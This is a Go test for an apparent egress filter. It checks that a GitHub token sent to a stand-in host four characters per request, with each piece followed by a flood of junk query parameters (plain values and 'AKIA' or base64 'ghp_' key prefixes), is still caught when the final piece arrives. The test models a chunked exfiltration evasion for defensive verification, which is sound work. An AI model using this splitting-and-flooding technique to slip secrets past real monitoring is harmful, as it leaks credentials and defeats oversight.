package egress

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// TestOutsideKeyWithPlacesFlooded: a key sent four characters a request,
// each piece followed by a request with twenty query parameters of new
// names (values of their own, or beginnings of keys), which made the
// split watch drop the key's place: the request that completes it is
// refused.
func TestOutsideKeyWithPlacesFlooded(t *testing.T) {
	const F = "files.example.test"
	for name, junk := range map[string]string{
		"values":             "v%d",
		"beginnings of keys": "AKIA%d",
		"beginnings, base64": "Z2hwX%d",
	} {
		t.Run(name, func(t *testing.T) {
			o := newOutside(t)
			tok := outsideGitHub
			last := 0
			for i := 0; i < len(tok); i += 4 {
				last, _ = o.send(t, F, "GET /s?k="+url.QueryEscape(tok[i:min(i+4, len(tok))])+" HTTP/1.1\nHost: "+F+"\n\n")
				var q []string
				for j := range 20 {
					q = append(q, fmt.Sprintf("p%d_%d=", i, j)+fmt.Sprintf(junk, j))
				}
				o.send(t, F, "GET /n?"+strings.Join(q, "&")+" HTTP/1.1\nHost: "+F+"\n\n")
			}
			if last != 403 {
				t.Errorf("the request that completes the key got %d", last)
			}
		})
	}
}
